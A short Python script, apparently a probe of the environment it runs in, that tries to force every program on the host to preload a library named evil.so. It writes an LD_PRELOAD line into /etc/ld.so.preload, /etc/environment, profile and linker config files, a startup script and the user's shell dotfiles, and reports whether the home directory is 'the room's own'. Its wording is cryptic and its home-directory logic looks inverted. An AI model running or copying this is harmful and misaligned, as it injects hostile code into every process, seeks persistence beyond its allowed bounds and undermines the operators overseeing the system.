# Tries to make every program that the hospital starts load a library of the script.
import os
import pathlib

from knows import KIT
from lead import tries

lines = "LD_PRELOAD=/tmp/evil.so\n"
for path in (
    "/etc/ld.so.preload",
    "/etc/environment",
    "/etc/profile.d/evil.sh",
    "/etc/ld.so.conf.d/evil.conf",
    f"{KIT}/startup/start.sh",
    "/usr/lib/evil.so",
    "/lib64/evil.so",
):
    tries(path, lambda: pathlib.Path(path).write_text(lines))
    tries(f"{path}, appended", lambda: open(path, "a").write(lines))
home = os.path.expanduser("~")
for name in (".bashrc", ".profile", ".pam_environment", ".config/environment.d/evil.conf"):
    if os.path.isdir(home) and os.access(home, os.W_OK):
        print("held", home, "is the room's own" if os.statvfs(home).f_blocks * 4096 < 1 << 28 else "GOT a home on disk")
    else:
        tries(name, lambda: pathlib.Path(home, name).write_text(lines))
